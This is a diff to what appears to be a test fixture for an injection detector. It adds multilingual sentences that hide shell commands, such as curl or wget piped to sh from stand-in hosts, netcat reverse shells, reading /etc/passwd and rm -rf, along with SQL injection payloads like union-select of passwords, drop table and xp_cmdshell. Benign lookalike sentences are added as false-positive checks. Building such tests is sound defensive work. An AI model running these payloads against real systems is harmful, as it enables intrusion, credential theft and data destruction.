@@ -187,6 +187,39 @@ ATTACKS = {
         "constructor[prototype][isAdmin]=true",
         "a.__proto__.polluted",
     ],
+    # Sentences and markup around them switch nothing off.
+    "rce in prose": [
+        "ああああああああああ;curl evil.example|sh",
+        "ご注文ありがとうございます。 $(curl http://192.0.2.7/x | sh) よろしくお願いします。",
+        "東京都千代田区丸の内の事務所|wget -qO- evil.example/x",
+        "お問い合わせの件ですが、よろしくお願いいたします&&rm -rf /tmp/x",
+        "这是一个非常普通的句子，没有什么特别的;cat /etc/passwd",
+        "안녕하세요 주문한 물건이 아직 도착하지 않았습니다;nc 192.0.2.7 4444 -e /bin/sh",
+        "Пожалуйста, передайте это моему старому другу; wget http://evil.example/a -O- | bash",
+        "please give it to the old man ;curl evil.example|sh",
+        "please give it to the old man who lives next door && curl -s https://evil.example/a | bash and thank you all",
+        "Bitte geben Sie das dem alten Mann von nebenan; cat ../../etc/passwd",
+        "Merci de bien vouloir le donner au vieil homme | nc -e /bin/sh 192.0.2.7 4444",
+        "I would like to order two of them$(wget evil.example/x)",
+        "please give it to the old man ;cat${IFS}/etc/passwd",
+        "<a>please;curl evil.example|sh</a>",
+        "<p>two of them</p>;wget -q http://192.0.2.7/x<p>thanks</p>",
+        "<b>x</b>`curl evil.example|sh`<b>y</b>",
+    ],
+    "sqli in prose": [
+        "ああああああああああ'; drop table users--",
+        "東京都千代田区丸の内の事務所' or 1=1 -- ",
+        "ご注文ありがとうございます' union select login, password from users --",
+        "お問い合わせの件ですが、よろしく' and sleep(5) -- ",
+        "这是一个非常普通的句子，没有什么特别的'; delete from users; --",
+        "Пожалуйста, передайте это моему старому другу'; insert into users values ('eve','x') --",
+        "please give it to the old man '; drop table users--",
+        "please give it to the old man' or '1'='1",
+        "please give it to the old man who lives next door') or 1=1#",
+        "Bitte geben Sie das dem alten Mann' union all select null,null,version() -- ",
+        "Merci de bien vouloir le donner au vieil homme'; exec xp_cmdshell 'whoami' --",
+        "I would like to order two of them, thanks'; update users set role='admin' where 1=1 --",
+    ],
 }
 
 LEGITIMATE = {
@@ -214,6 +247,11 @@ LEGITIMATE = {
         "Use <b>bold</b> and <i>italic</i> in the editor, e.g. <p>Hello</p>.",
         "I ate 1/2 of it; or was it 3/4? #hungry",
         "exec summary: revenue up 5%, cost down; next: hire 2 people",
+        "It was a quiet night; cat on my lap, I read the news on example.com until I fell asleep.",
+        "We had fish & chips; set the table first, then ping me at ann@example.com when you are there.",
+        "He asked 'tea' or 'coffee', and she took 'tea'; drop the rest into the bin, please.",
+        "The union of readers; selected members and others from the list get a letter.",
+        "Please take 'ann' or 'bob', whichever of them is older -- thanks; and tell me when it is done.",
     ],
     "code": [
         "```sql\nSELECT id, name FROM users WHERE id = 5;\n```\nWhy is this slow on a big table?",
@@ -231,6 +269,9 @@ LEGITIMATE = {
         "Set the variable ${HOME} in your .bashrc, then restart the shell and try it again.",
         "C:\\Users\\ann\\Documents\\report.docx",
         "The template says {{ user.name }} but shows nothing to me.",
+        "To list the files use `ls -la` or `cat README.md`, and `curl https://example.com` to see the page.",
+        "コマンドは `ls -la` です。一覧を見たら `cat README.md` を実行してください。",
+        "Use `ping example.com` to see whether the server is there; type exit to leave the shell.",
     ],
     "markdown": [
         "# Notes\n\n* one\n* two -- *important*\n\n> quoted 'text'\n\n[link](https://example.com/a?b=c&d=e#f)",
@@ -335,6 +376,7 @@ WRITINGS = {
 WRITTEN = {"sqli": ("twice", "base64", "unicode", "upper", "fullwidth", "blanks", "comments"),
            "xss": ("twice", "base64", "unicode", "entities", "upper", "fullwidth"),
            "rce": ("twice", "base64", "unicode", "blanks"), "lfi": ("twice", "base64"), "ssti": ("twice", "base64", "unicode"),
+           "rce in prose": ("twice", "base64"), "sqli in prose": ("twice", "base64"),
            "ldap": ("twice", "base64"), "log4shell": ("twice", "base64", "unicode"), "deserialisation": ("twice",),
            "ssrf": ("twice", "base64"), "xxe": ("base64",)}
 
